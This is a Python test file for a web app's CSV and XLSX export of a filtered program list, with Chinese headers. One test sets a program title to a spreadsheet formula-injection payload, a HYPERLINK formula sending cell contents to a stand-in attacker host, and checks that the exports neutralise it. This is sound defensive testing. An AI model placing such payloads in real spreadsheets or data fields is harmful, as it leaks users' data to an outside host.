"""The program list downloaded as CSV or XLSX, as the reader filtered it."""

import csv
import io

import openpyxl

from tests.web.test_program_search import incubator  # noqa: F401  (a fixture)


def test_the_csv_holds_the_filtered_rows_in_chinese(client, pilot_base, incubator):  # noqa: F811
    response = client.get("/programs/export.csv", {"q": "孵化", "status": "all"})

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="programs.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["项目名称", "发布单位"]
    assert [row[0] for row in rows[1:]] == [incubator.title_zh]
    assert rows[1][-1] == "http://testserver/programs/chengzhong-incubator-2025/"


def test_a_title_that_is_a_formula_stays_text(client, pilot_base):
    pilot_base.title_zh = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    pilot_base.save()

    csv_rows = list(csv.reader(io.StringIO(
        client.get("/programs/export.csv", {"status": "all"}).content.decode("utf-8-sig")
    )))
    workbook = openpyxl.load_workbook(io.BytesIO(
        client.get("/programs/export.xlsx", {"status": "all"}).content
    ))
    [cell] = [c for c in next(workbook.active.iter_cols(min_col=1, max_col=1)) if c.row == 2]

    assert not csv_rows[1][0].startswith("=")
    assert cell.data_type == "s" and not str(cell.value).startswith("=")


def test_a_bad_filter_is_a_400_naming_the_field(client, pilot_base):
    response = client.get("/programs/export.xlsx", {"deadline_from": "someday"})

    assert response.status_code == 400
    assert "截止日期起" in response.content.decode()


def test_an_unknown_format_is_a_404(client, pilot_base):
    assert client.get("/programs/export.pdf").status_code == 404
